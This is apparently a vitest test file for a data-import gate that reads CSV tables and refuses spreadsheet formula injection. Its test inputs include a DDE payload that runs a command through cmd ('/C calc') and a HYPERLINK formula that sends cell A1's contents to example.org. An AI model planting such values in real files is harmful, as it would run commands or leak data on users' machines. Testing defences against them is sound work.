import { describe, expect, it } from 'vitest';
import { writeRows } from '../../src/data/csv.ts';
import { readFiles } from '../../src/data/gate.ts';
import { readTable } from '../../src/data/read-table.ts';
import { openSheet } from '../../src/data/sheet.ts';
import type { Table } from '../../src/data/table.ts';
import { tables } from '../../src/data/tables.ts';
import { NAUGHTY, refusalOf, wordColumns } from './naughty.ts';
import { naughtyFiles } from './naughty-folder.ts';

const all: readonly Table[] = Object.values(tables);

/** A row of a table with a text in every column of words, as the gate reads it: what it says of those columns. */
function readRow(table: Table, text: string) {
  const words = new Set(wordColumns(table));
  const names = Object.keys(table.columns);
  const file = `${table.name}.csv`;
  const csv = writeRows([names, names.map((name) => (words.has(name) ? text : 'x'))]);
  const { sheet, problems } = openSheet(table, file, new TextEncoder().encode(csv));
  const read = readTable(table, sheet ? [sheet] : [], { keys: new Map(), units: new Map() });
  return [...problems, ...read.problems.kept].filter(({ field }) => words.has(field ?? ''));
}

describe.each(all.map((table) => [table.name, table] as const))('%s', (_name, table) => {
  it('lets each string into its columns of words, or says at each what is wrong with it', () => {
    for (const text of NAUGHTY) {
      const refusal = refusalOf(text);
      const columns = wordColumns(table).filter(
        (name) => refusal !== 'empty' || table.columns[name]?.empty === 'problem',
      );
      const told = readRow(table, text).map(({ field, rule, line }) => `${line} ${field} ${rule}`);
      expect(told.sort(), JSON.stringify(text)).toEqual(
        refusal === undefined ? [] : columns.map((name) => `2 ${name} ${refusal}`).sort(),
      );
    }
  });
});

describe('a text that begins with a sign', () => {
  it.each([
    "-1+cmd|' /C calc'!A0",
    "+62+cmd|' /C calc'!A0",
    '- HYPERLINK ("https://example.org/?"&A1;"klik")',
    '-2+SUM(A1)',
    '＋1+SUM(A1)',
    '﹣SUM(A1)',
    '﹦1+1',
  ])('is refused where a spreadsheet would run it: %s', (text) => {
    expect(readRow(tables.winners, text).map(({ field, rule }) => `${field} ${rule}`)).toContain(
      'winner formula',
    );
  });

  it.each(['- kira-kira', '-5 poin', '+62 (741) 123-456', '–5', '(-1)'])(
    'stays where it calls nothing: %s',
    (text) => {
      expect(readRow(tables.winners, text)).toEqual([]);
    },
  );
});

it('tables with every admitted string in them pass the gate', () => {
  const { problems, dataset } = readFiles(naughtyFiles());
  expect(problems).toEqual([]);
  expect(dataset?.winners.length).toBeGreaterThan(400);
});
